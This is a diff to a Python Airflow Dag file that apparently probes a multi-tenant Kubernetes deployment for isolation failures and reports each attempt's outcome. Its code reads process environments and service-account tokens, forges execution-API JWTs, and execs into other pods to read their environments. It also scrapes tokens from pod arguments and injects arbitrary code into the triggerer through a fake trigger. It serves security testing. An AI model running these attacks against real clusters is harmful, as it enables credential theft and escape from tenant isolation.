@@ -1,4 +1,4 @@
-"""What a hostile author of a Dag would try, from wherever his code runs.
+"""Attacks of a hostile Dag author, from every place where the code runs.
 
 Each attempt answers `done` or why not. The top of this file runs in the dag-processor; what it
 found is the documentation of the Dag. A task that defers hands this file to the triggerer.
@@ -27,7 +27,7 @@ from typing import Any
 from airflow.sdk import BaseOperator, dag, get_current_context, task
 from kubernetes.client import models as k8s
 
-# Who hands this file on, tells it.
+# The sender of this file to the triggerer sets it.
 ABOUT = globals().get("TOLD") or json.loads(Path(__file__).with_name("attacker.json").read_text())
 ACCOUNT_TOKEN = Path("/var/run/secrets/kubernetes.io/serviceaccount/token")
 SECONDS = 3
@@ -48,7 +48,7 @@ def connect(target: str) -> str:
 
 
 def environments() -> str:
-    """What every process that may be read was started with."""
+    """The environments of all readable processes."""
     found = []
     for file in Path("/proc").glob("[0-9]*/environ"):
         try:
@@ -97,7 +97,7 @@ def call(name: str, *arguments: Any) -> str:
 
 
 def kubernetes(path: str) -> str:
-    """Ask the Kubernetes API, as nobody."""
+    """Send an unauthenticated request to the Kubernetes API."""
     context = ssl._create_unverified_context()
     url = f"https://kubernetes.default.svc{path}"
     urllib.request.urlopen(url, timeout=SECONDS, context=context)
@@ -138,7 +138,7 @@ def outcomes(attempts: dict[str, Callable[[], str]]) -> dict[str, str]:
 
 
 def forged(how: str, **claims: Any) -> str:
-    """A token for somebody else: as mine is signed, unsigned, or signed with a poor secret."""
+    """A forged token: with its own signature, unsigned, or signed with a guessed secret."""
     import jwt
 
     if how == "unsigned":
@@ -153,7 +153,7 @@ def forged(how: str, **claims: Any) -> str:
 
 
 def run_as(token: str, task_instance: str) -> str:
-    """Tell the execution API that a task runs here; it takes a token that is good for that."""
+    """Report to the execution API that a task runs here, with a token."""
     from airflow.configuration import conf
 
     body = {
@@ -188,7 +188,7 @@ def own_token() -> str:
 
 
 def by_token(mine: str, other: str) -> dict[str, str]:
-    """What tokens of the execution API are good for."""
+    """Outcomes of requests with tokens of the execution API."""
     claims = {"sub": other, "scope": "workload", "aud": "urn:airflow.apache.org:task"}
     claims |= {"iat": time.time(), "nbf": time.time(), "exp": time.time() + 600}
     return outcomes(
@@ -206,40 +206,8 @@ def by_token(mine: str, other: str) -> dict[str, str]:
     )
 
 
-def launched(**spec: Any) -> k8s.V1Pod:
-    """A pod that Pod Security `restricted` and the quota take, but for what is said."""
-    labels = spec.pop("labels", {})
-    container = spec.pop("container", {})
-    quiet = {"allow_privilege_escalation": False, "capabilities": {"drop": ["ALL"]}}
-    security = k8s.V1SecurityContext(**{**quiet, **container.pop("security_context", {})})
-    return k8s.V1Pod(
-        metadata=k8s.V1ObjectMeta(generate_name="attack-", labels=labels),
-        spec=k8s.V1PodSpec(
-            **{
-                "containers": [
-                    k8s.V1Container(
-                        name="base",
-                        image="none",
-                        resources=k8s.V1ResourceRequirements(
-                            requests={"cpu": "10m", "memory": "16Mi"},
-                            limits={"cpu": "100m", "memory": "32Mi"},
-                        ),
-                        security_context=security,
-                        **container,
-                    )
-                ],
-                "security_context": k8s.V1PodSecurityContext(
-                    run_as_non_root=True,
-                    seccomp_profile=k8s.V1SeccompProfile(type="RuntimeDefault"),
-                ),
-                **spec,
-            }
-        ),
-    )
-
-
 def kubernetes_api() -> Any:
-    """The Kubernetes API, as this pod's account or as nobody."""
+    """The Kubernetes API, with this pod's account or unauthenticated."""
     from kubernetes import client
 
     settings = client.Configuration(host="https://kubernetes.default.svc")
@@ -253,7 +221,7 @@ def environment_by_exec(namespace: str, pod: str) -> str:
     from kubernetes import client
     from kubernetes.stream import stream
 
-    # `stream` bends its client: this one is its own.
+    # `stream` changes its client, so it gets one of its own.
     act = client.CoreV1Api(kubernetes_api()).connect_get_namespaced_pod_exec
     try:
         act(pod, namespace, command=["env"], _request_timeout=2 * SECONDS)
@@ -268,7 +236,7 @@ def environment_by_exec(namespace: str, pod: str) -> str:
 
 
 def token_of_another(core: Any, namespace: str) -> str:
-    """What the executor wrote into the arguments of other pods, for whoever may list them."""
+    """Read a token that the executor wrote into the arguments of another pod."""
     for pod in core.list_namespaced_pod(namespace, _request_timeout=2 * SECONDS).items:
         words = [word for one in pod.spec.containers for word in one.args or []]
         if pod.metadata.name != socket.gethostname() and any(map(TOKEN.search, words)):
@@ -277,51 +245,29 @@ def token_of_another(core: Any, namespace: str) -> str:
 
 
 def by_kubernetes() -> dict[str, str]:
-    """What the Kubernetes API takes from here; nothing is really made."""
+    """Outcomes of requests to the Kubernetes API; all are dry runs."""
     from kubernetes import client
 
     api = kubernetes_api()
     core, rights = client.CoreV1Api(api), client.RbacAuthorizationV1Api(api)
     main, tasks, other = (ABOUT["namespaces"][name] for name in ("main", "tasks", "other"))
 
-    def create(namespace: str = tasks, **spec: Any) -> str:
-        return ask(core.create_namespaced_pod, namespace, launched(**spec), dry_run="All")
+    def create(pod: dict[str, Any], namespace: str = tasks) -> str:
+        return ask(core.create_namespaced_pod, namespace, pod, dry_run="All")
 
     def ask(act: Callable[..., Any], *arguments: Any, **options: Any) -> str:
         act(*arguments, **options, _request_timeout=2 * SECONDS)
         return "done"
 
-    volume = k8s.V1Volume(name="v", secret=k8s.V1SecretVolumeSource(secret_name="anything"))
-    host = k8s.V1Volume(name="v", host_path=k8s.V1HostPathVolumeSource(path="/"))
-    secret = k8s.V1SecretKeySelector(name="anything", key="any")
-    source = k8s.V1EnvVar(name="A", value_from=k8s.V1EnvVarSource(secret_key_ref=secret))
     role = {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "admin"}
     binding = {"metadata": {"name": "attack"}, "roleRef": role, "subjects": []}
     request = {"spec": {"audiences": None}}
+    launched = ABOUT["launched"]
+    legal = launched["launch a pod as the operator does"]
     tries: dict[str, Callable[[], str]] = {
-        "launch a pod as the operator does": create,
-        "launch a privileged pod": partial(
-            create,
-            container={
-                "security_context": {"privileged": True, "allow_privilege_escalation": True}
-            },
-        ),
-        "launch a pod with a path of the node": partial(create, volumes=[host]),
-        "launch a pod in the network of the node": partial(create, host_network=True),
-        "launch a pod with the processes of the node": partial(create, host_pid=True),
-        "launch a pod as another account": partial(create, service_account_name=ABOUT["account"]),
-        "launch a pod with the label of a component": partial(
-            create, labels={"tier": "airflow", "component": "scheduler", "release": "airflow"}
-        ),
-        "launch a pod with the label of another release": partial(
-            create, labels={"component": "worker", "release": "other"}
-        ),
-        "launch a pod that mounts a Secret": partial(create, volumes=[volume]),
-        "launch a pod with a Secret in its environment": partial(
-            create, container={"env": [source]}
-        ),
-        "launch a pod beside the platform": partial(create, namespace=main),
-        "launch a pod beside another team": partial(create, namespace=other),
+        **{what: partial(create, pod) for what, pod in launched.items()},
+        "launch a pod beside the platform": partial(create, legal, main),
+        "launch a pod beside another team": partial(create, legal, other),
         "read another pod's environment": partial(environment_by_exec, tasks, ABOUT["pod"]),
         "read the environment of the platform": partial(
             environment_by_exec, main, "airflow-postgresql-0"
@@ -345,12 +291,12 @@ def by_kubernetes() -> dict[str, str]:
 
 def everything(mine: str = "", other: str = "") -> dict[str, dict[str, str]]:
     """All of it at once: most attempts end by their limit, and a Dag file has half a minute."""
-    nobody = str(uuid.uuid4())
+    unknown = str(uuid.uuid4())
     with ThreadPoolExecutor() as pool:
         found = {
             "here": pool.submit(outcomes, ATTEMPTS),
             "kubernetes": pool.submit(by_kubernetes),
-            "tokens": pool.submit(by_token, mine or nobody, other or nobody),
+            "tokens": pool.submit(by_token, mine or unknown, other or unknown),
         }
         return {where: one.result() for where, one in found.items()}
 
@@ -386,7 +332,7 @@ OVERRIDES = {
 IN_A_TASK = "AIRFLOW_IS_K8S_EXECUTOR_POD" in os.environ
 ELSEWHERE = IN_A_TASK or "TOLD" in globals() or "pytest" in sys.modules
 FOUND = {} if ELSEWHERE else everything()
-# TypeError is what the triggerer takes for a trigger that it cannot make, and hands on.
+# The triggerer passes the text of a TypeError of a trigger on to the task.
 IN_THE_TRIGGERER = """
 import json
 names = {"__name__": "attacker", "__file__": file, "TOLD": told}
@@ -396,7 +342,7 @@ raise TypeError(json.dumps(names["everything"]()))
 
 
 class NoTrigger:
-    """No trigger, but a function that runs what it is given."""
+    """Not a trigger, but a function that runs its argument as code."""
 
     def serialize(self) -> tuple[str, dict[str, Any]]:
         source = Path(__file__).read_text()
@@ -405,7 +351,7 @@ class NoTrigger:
 
 
 class Deferring(BaseOperator):
-    """Attack from the triggerer, and hand on what was found there."""
+    """Attack from the triggerer, and return the outcomes."""
 
     def execute(self, context: Any) -> None:
         self.defer(trigger=NoTrigger(), method_name="execute")
